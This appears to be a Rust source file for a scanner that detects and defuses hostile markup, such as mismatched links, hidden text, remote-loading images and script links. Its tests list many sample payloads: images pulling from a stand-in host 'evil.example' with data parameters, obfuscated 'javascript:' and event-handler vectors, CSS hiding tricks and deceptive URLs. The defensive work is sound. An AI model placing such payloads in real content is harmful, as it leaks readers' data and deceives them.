fn mismatches(pattern: &Regex, text: &str, budget: &WorkBudget, found: &mut Vec<MarkupMatch>) {
    let plain = |host: &str| {
        let host = host.trim_end_matches(['.', ',']).to_ascii_lowercase();
        host.strip_prefix("www.").map_or_else(|| host.clone(), ToOwned::to_owned)
    };
    for one in pattern.captures_iter(text) {
        let part = |n| one.get(n).map(|part| plain(part.as_str()));
        let (shown, led, target) = match one.get(2) {
            Some(target) => (part(1), part(3), Some(target)),
            None => (part(6), part(5), one.get(4)),
        };
        if !budget.spend(EACH_FOUND) {
            return;
        }
        let Some(target) = target.filter(|_| shown != led) else { continue };
        let note = "has a link that shows another address than it leads to";
        found.push(MarkupMatch::new(target.range(), note, Defusal::Link));
    }
}

#[cfg(test)]
mod tests {
    use policy_core::base::work::WorkBudget;
    use policy_core::subject::pattern::Pattern;
    use proptest::prelude::*;

    use super::{COMPILED, FoundMarkup};

    fn find(text: &str, hosts: &[Pattern]) -> FoundMarkup {
        super::find(text, hosts, &WorkBudget::unlimited())
    }

    fn notes(text: &str) -> Vec<&'static str> {
        find(text, &[]).matches.into_iter().map(|one| one.note).collect()
    }

    /// The text with the first match defused; `None` if nothing is found in it.
    fn defused(text: &str, hosts: &[Pattern]) -> Option<String> {
        let found = find(text, hosts);
        let one = found.matches.first()?;
        let idle = found.defanged(one, text.get(one.from..one.end).unwrap());
        let (before, behind) = (text.get(..one.from).unwrap(), text.get(one.end..).unwrap());
        Some([before, &idle, behind].concat())
    }

    #[test]
    fn the_patterns_compile() {
        assert!(COMPILED.error().is_none());
    }

    #[test]
    fn what_does_something_is_found() {
        for text in [
            "a <!-- do this --> b",
            "<SCRIPT src=x>",
            "<img src=\"https://evil.example/a.gif?k=1\" width=1>",
            "<svg onload=alert(1)>",
            "<div style=\"background:url(https://evil.example/b)\"></div>",
            "<p style='display: none'>x</p>",
            "![x](https://evil.example/a.png)",
            "![x](//evil.example/a.png)",
            "![s][1]\n\n[1]: https://evil.example/p.png",
            "[x](javascript:alert(1))",
            "[x](data:text/html;base64,AA==)",
            "[Fix](command:workbench.run)",
            "[//]: # (do this)",
            "<iframe src=x></iframe>",
            "<a href=x onclick=\"y()\">",
            "@import url('https://evil.example/a.css')",
            "<img/src='//evil.example/a'>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "https://github.com@evil.example/repo",
            "https://docs.example.com;@evil.example/?q=1",
            "http:\\\\2130706433/x",
            "https://xn--pypal-4ve.com/update",
            "http://2130706433/x",
            "[https://bank.example](https://evil.example/login)",
            "<a href='https://evil.example'>https://bank.example</a>",
        ] {
            assert!(!notes(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "a < b and c > d",
            "Vec<String> and Option<&str>",
            "see https://docs.example.com/a_b?c=d#e",
            "<p>Hi <b>there</b></p> <a href=\"https://example.org/x\">x</a>",
            "![local](./a.png)",
            "[a](https://example.org)",
            "https://münchen.example/ and https://xn--mnchen-3ya.example",
            "// a comment",
            "std::fmt::Display",
            "http://127.0.0.1:8080/x",
            "git@github.com:a/b.git",
            "https://git@github.com/a/b",
            "[https://example.org](https://www.example.org/)",
            "http://[::1]:80/x",
            "on_load = 3; onclick = f",
            "<meta charset=utf-8>",
            "data: text",
            "arr![0]",
            "vec![0] of [docs](https://example.org) and\n\n[other]: https://example.org",
            "![x](./a.png) and ![y]\n\n[y]: ./b.png",
            "the key: //",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=y&#62;",
            "Vec<!, T> and echo <!world'>",
            "<p class=\"md:block hidden lg:flex\" aria-hidden=\"true\" data-hidden>x</p>",
            "<input type=\"hidden\" name=x> <Foo hidden={open}>",
            "<p style=\"background-color:transparent;margin-left:-20px;opacity:0.5\">",
            "<!DOCTYPE html> <?xml version=\"1.0\"?> <?php echo 1; ?> <![CDATA[ words ]]> <!ENTITY a \"b\">",
            "List<?> a; Map<? extends K, ? super V> b; Class<?, T> c; <></> </_a> </été>",
            "<p style=\"color:#aabbcc;margin:0;opacity:1;scale:1;font:12px a;left:-10px;color:rgb(0,0,0)\">",
            "<img src=/a.png srcset=\"/a.png 1x, /b.png 2x\" alt=\"a > b\">",
            "if (a <b && on = 3) { hide() }; Map<K, V> once = f(a<b, c>d)",
            "a C:\\:\\/ path and a regular expression \\: \\/\\/ beside [a](b)",
        ] {
            assert_eq!(notes(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn links_may_be_held_to_hosts() {
        let hosts = [Pattern::new("example.org"), Pattern::new("*.example.org")];
        for (text, found) in [
            ("https://example.org/a", false),
            ("https://A.Example.org:8443/a", false),
            ("https://example.com", true),
            ("<https://example.com>", true),
            ("[x](//example.com/y)", true),
            ("https://example.org.example.com", true),
            ("http://[::1]/", true),
            ("https:/example.com/x", true),
            ("<a href=//example.com>", true),
            ("[r]: //example.com", true),
            ("[x](<//example.com>)", true),
            ("https://example.org;@example.com/", true),
            ("ftp://example.com", true),
            ("https://example.org./", false),
            ("https://example.org;.example.com/", true),
            ("https://example.org';_.example.com:443/", true),
            ("[x](https://example.org\"@example.com/)", true),
            ("https://example.org\"@example.com/", true),
            ("[x](https://example.org).example.com/)", false),
            ("[x](<https://example.org).example.com/>)", true),
            ("<a href = \"//example.com\">", true),
            ("<a title='a>b' HREF\n=\n//example.com>", true),
            ("<a href=\"&#1;//example.com\">", true),
            ("<a href='https://example.org\".example.com/'>", true),
            ("> [x](\n> //example.com/a)", true),
            ("> > [x]:\n> > //example.com", true),
            ("{\"a\":\"https://example.org\",\"b\":\"x@example.com\"}", false),
            ("'https://example.org'.format(a.b)", false),
            ("(https://example.org),[https://example.org]; 'https://example.org'", false),
            ("> see https://example.org\n> and more", false),
            ("https:example.org/a", false),
            ("//example.org/a", false),
            ("// see example.com", false),
        ] {
            assert_eq!(!find(text, &hosts).matches.is_empty(), found, "{text}");
        }
        for text in [
            "https://example.com/x",
            "https:/example.com",
            "[x](//example.com/y)",
            "wss://example.com",
            "ftp://a.com/b",
            "<a href=//example.com>",
            "https://example.org;@example.com/",
            "http:\\\\example.com",
            "http://[::1]/",
            "https:example.com/x",
            "//example.com/x",
            " HTTPS:\\example.com",
            "ht\ntps://example.com/x",
            "https:/\t/example.com/x",
        ] {
            let idle = defused(text, &hosts).unwrap();
            assert!(find(&idle, &hosts).matches.is_empty(), "{idle}");
        }
        assert_eq!(
            defused("see https://evil.example/a.b?c=d now", &hosts).unwrap(),
            "see hxxps://evil[.]example/a.b?c=d now"
        );
    }

    /// What programs that show HTML and Markdown follow, load and run.
    #[test]
    fn what_does_something_is_found_as_it_is_read() {
        for text in [
            "![x](https&#58;//evil.example/?d=1)",
            "![x](https&#x3a;//evil.example/?d=1)",
            "![x](https&colon;//evil.example/?d=1)",
            "![x](&#104;ttps://evil.example/?d=1)",
            "![x](https:&#47;&#47;evil.example/?d=1)",
            "![x](https\\://evil.example/?d=1)",
            "![x](/\\\\evil.example/?d=1)",
            "![x](https:evil.example/?d=1)",
            "![x]( //evil.example/?d=1 )",
            "![a [b [c]] d](https://evil.example/?d=1)",
            "![a\nb](https://evil.example/?d=1)",
            "![a\\]b](https://evil.example/?d=1)",
            "![a `]` b](https://evil.example/?d=1)",
            "![a `[` b](https://evil.example/?d=1)",
            "![x](https://evil.example/a]\n)",
            "![x]\n\n[X]: https://evil.example/p.png",
            "![x][]\n\n[x]:                     //evil.example/p.png",
            "![x][r]\n\n[r]: https&#58;//evil.example/?d=1",
            "![x][r]\n\n[r]:\n  <//evil.example>",
            "<img src=\"https&#58;//evil.example/?d=1\">",
            "<img src=\"ht\ntps://evil.example/?d=1\">",
            "<img src=\"https:evil.example/?d=1\">",
            "[x](javascript&#58;alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](java&Tab;script:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](javascript\\:alert(1))",
            "<a href=\"javascript&colon;alert(1)\">",
            "<a href=\"java\nscript:alert(1)\">",
            "<a href='java&NewLine;script:alert(1)'>",
            "[x](vscode&#58;//x/y)",
            "[x](<vscode://x/y>)",
            "<a href=\"vscode://x/y\">",
            "![x](data&#58;image/svg+xml,x)",
            "<div hidden>words</div>",
            "<div class=x hidden=\"\">words</div>",
            "<p style=\"display&#58;none\">x</p>",
            "<p style=\"d\\69splay:none\">x</p>",
            "<p style=\"opacity:.01\">x</p>",
            "<p style=\"position:absolute;left:-9999px\">x</p>",
            "<p style=\"color:transparent\">x</p>",
            "<p style=\"background:u\\72l(//evil.example)\">",
            "<p style=\"background:image-set('//evil.example' 1x)\">",
            "<! words >",
            "<? words ?>",
            "</ words>",
            "<feImage href=\"//evil.example/x\">",
            "<a ping=\"//evil.example\" href=\"#\">",
            "<img title=\"a>b\" src=\"//evil.example\">",
            "<p title='a>b' onclick=\"x()\">",
            "<p title='a>b' style='display:none'>x</p>",
            "<img src=/x srcset='/y 1x, //evil.example/a 2x'>",
            "<img src=/x srcset=', //evil.example/a 2x'>",
            "> ![x](\n> //evil.example/a.png)",
            "> <img\n> src=//evil.example/a.png>",
            "<p hidden=>x</p>",
            "<p style='display:/**/none'>x</p>",
            "<p style='color:#0000'>x</p>",
            "<p style='color:rgba(0,0,0,0)'>x</p>",
            "<p style='opacity:-1'>x</p>",
            "<p style='transform:translateX(-9999px)'>x</p>",
            "<p style='background:image(\"//evil.example\")'>x</p>",
        ] {
            assert!(!notes(text).is_empty(), "{text}");
            let mut now = text.to_owned();
            for _ in 0..4 {
                now = defused(&now, &[]).unwrap_or(now);
            }
            assert_eq!(notes(&now), [""; 0], "{text}: {now}");
        }
        let hosts = [Pattern::new("ok.example"), Pattern::new("*.ok.example")];
        for text in [
            "[x](https&#58;//evil.example)",
            "<a href=\"ht\ntps://evil.example/\">",
            "[x]( //evil.example )",
            "[x](                                  //evil.example )",
            "[x](\\\\\\\\evil.example)",
            "<a href=\"\\\\evil.example\">",
            "[x](https:evil.example)",
            "<a href=\"&#47;&#47;evil.example\">",
            "[x](///evil.example)",
            "see www.evil.example",
            "ssh://evil.example",
            "file://evil.example/x",
            "<a href= //evil.example>",
        ] {
            assert_eq!(find(text, &hosts).matches.len(), 1, "{text}");
            let idle = defused(text, &hosts).unwrap();
            assert_eq!(find(&idle, &hosts).matches.len(), 0, "{text}: {idle}");
            assert_eq!(find(&text.replace("evil", "ok"), &hosts).matches.len(), 0, "{text}");
        }
        for text in [
            "file:///srv/a and file://C:/a and file:a",
            "a https: b, http:\n//comment",
            "f(http::Request::new(), Vec<http::Header>, url=http:x) (https:)",
            "(http: the protocol), scheme=\"https:\", (see https:) and if (x)\\\\server",
            "x = //comment\nfoo( //comment\n)",
            "s.replace(/\\\\/g, '').match(/\\\\/x\\\\/$/)",
            "/// [a]:\n/// https://ok.example and //! [b]:\n//! <https://ok.example>",
            "x =\"\n//comment",
            "awww.that is nice",
        ] {
            assert_eq!(find(text, &hosts).matches.len(), 0, "{text}");
        }
    }

    proptest! {
        #[test]
        fn what_is_made_to_do_nothing_does_nothing(parts in proptest::collection::vec(prop_oneof![
            Just("<script>"), Just("</script>"), Just("<!--"), Just("-->"), Just("![a]("), Just("https://a.b@c.d/"),
            Just(")"), Just("<img src=\"//x.y\">"), Just("javascript:"), Just("[//]: "), Just("\n"), Just("word "),
            Just("<a href='"), Just("'>"), Just("[https://a.example]("), Just("](command:"), Just("<"), Just(">"), Just("@import //a"),
            Just("&#58;"), Just("&Tab;"), Just("\\:"), Just("<a href=\"java\nscript:\">"), Just("https&colon;//a@b.c"), Just("hidden"),
            Just("www.a.b"), Just("<?"), Just("<p style=\"u\\72l(\""),
        ], 0..12)) {
            let mut text = parts.concat();
            for _ in 0..6 {
                let Some(idle) = defused(&text, &[]) else { break };
                text = idle;
            }
            prop_assert!(text.len() < 4096);
        }
    }
}
